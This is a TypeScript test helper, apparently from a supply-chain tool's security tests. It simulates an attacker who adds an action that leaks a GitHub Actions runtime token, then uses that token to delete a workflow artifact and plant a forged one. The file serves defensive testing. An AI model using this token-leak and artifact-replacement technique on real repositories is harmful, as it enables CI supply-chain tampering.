import { createHash } from 'node:crypto'
import { mkdirSync, readFileSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { type Claims, type Digest, formatClaims, formatRunRecord, hexOf, type RunRecord } from '@slipway/core'
import { readClaimsArchive } from '@slipway/github'
import { type ZipEntry, zip } from '@slipway/github/testing'
import { edit } from './edit-project.ts'
import type { World } from './world.ts'

/** What an artifact of a pull request's workflow holds, to be changed at will. */
export interface Loot {
  readonly claims: Claims
  readonly records: readonly RunRecord[]
  readonly objects: ReadonlyMap<Digest, Uint8Array>
}

/** Makes the workflow of a branch hand out the token by which a job uploads its artifacts: nothing stops a pull request from that. */
export function leakToken(folder: string, file: string): void {
  const action = join(folder, '.github', 'actions', 'leak')
  mkdirSync(action, { recursive: true })
  writeFileSync(
    join(action, 'action.yml'),
    'name: Leak\ndescription: The token\nruns: { using: node24, main: leak.mjs }\n',
  )
  const wanted = '{ url: process.env.ACTIONS_RESULTS_URL, token: process.env.ACTIONS_RUNTIME_TOKEN }'
  writeFileSync(
    join(action, 'leak.mjs'),
    `import { writeFileSync } from 'node:fs'\nwriteFileSync(${JSON.stringify(file)}, JSON.stringify(${wanted}))\n`,
  )
  edit(
    folder,
    '.github/workflows/slipway-pull-request.yml',
    (text) => `${text}      - uses: ./.github/actions/leak\n`,
  )
}

/** Somebody who has the upload token of a run, and puts other artifacts in the place of the honest one. */
export class ArtifactThief {
  readonly #world: World
  readonly #runId: number
  readonly #leak: { readonly url: string; readonly token: string }

  constructor(world: World, runId: number, leakFile: string) {
    this.#world = world
    this.#runId = runId
    this.#leak = JSON.parse(readFileSync(leakFile, 'utf8'))
  }

  /** The artifact that the run made. */
  async steal(): Promise<{ readonly loot: Loot; readonly bytes: Buffer }> {
    const { ada, name, folder } = this.#world
    const path = `/repos/${name}/actions/runs/${this.#runId}/artifacts`
    const { artifacts } = await ada.api<{ artifacts: { id: number; name: string }[] }>('GET', path)
    const id = artifacts.find((artifact) => artifact.name === 'slipway')?.id
    const bytes = await ada.downloadBytes(`/repos/${name}/actions/artifacts/${id}/zip`)
    const file = join(folder, `stolen-${id}.zip`)
    writeFileSync(file, bytes)
    const unpacked = `${file}.d`
    const archive = await readClaimsArchive(file, unpacked, { maxBytes: 1e9 })
    const objects = [...archive.objects].map(([digest, object]) => [digest, readFileSync(object)] as const)
    return {
      bytes,
      loot: { claims: archive.claims, records: [...archive.records.values()], objects: new Map(objects) },
    }
  }

  /** Puts an archive in the place of the run's artifact. */
  async plant(archive: Uint8Array): Promise<void> {
    const [, run = '', job = ''] = /Actions\.Results:([^:]+):([^ "]+)/.exec(this.#scopes()) ?? []
    const ids = { workflow_run_backend_id: run, workflow_job_run_backend_id: job }
    const call = async (method: string, body: object) => {
      const response = await fetch(
        new URL(`twirp/github.actions.results.api.v1.ArtifactService/${method}`, this.#leak.url),
        {
          method: 'POST',
          headers: { authorization: `Bearer ${this.#leak.token}`, 'content-type': 'application/json' },
          body: JSON.stringify({ ...ids, name: 'slipway', ...body }),
        },
      )
      if (!response.ok) throw new Error(`${method}: ${response.status} ${await response.text()}`)
      return response.json() as Promise<{ signed_upload_url: string }>
    }
    await call('DeleteArtifact', {})
    const { signed_upload_url: url } = await call('CreateArtifact', { version: 4 })
    const put = await fetch(url, {
      method: 'PUT',
      headers: { 'x-ms-blob-type': 'BlockBlob' },
      body: Buffer.from(archive),
    })
    if (!put.ok) throw new Error(`upload: ${put.status}`)
    const hash = `sha256:${createHash('sha256').update(archive).digest('hex')}`
    await call('FinalizeArtifact', { size: String(archive.length), hash })
  }

  #scopes(): string {
    return Buffer.from(this.#leak.token.split('.')[1] ?? '', 'base64url').toString()
  }
}

/** An archive of this content, each record and object under its own digest, and whatever else. */
export function archiveOf({ claims, records, objects }: Loot, more: readonly ZipEntry[] = []): Buffer {
  const texts = records.map(formatRunRecord)
  return zip([
    { name: 'slipway.json', content: formatClaims(claims) },
    ...texts.map((text) => ({
      name: `records/${createHash('sha256').update(text).digest('hex')}.json`,
      content: text,
    })),
    ...[...objects].map(([digest, content]) => ({ name: `objects/${hexOf(digest)}`, content })),
    ...more,
  ])
}
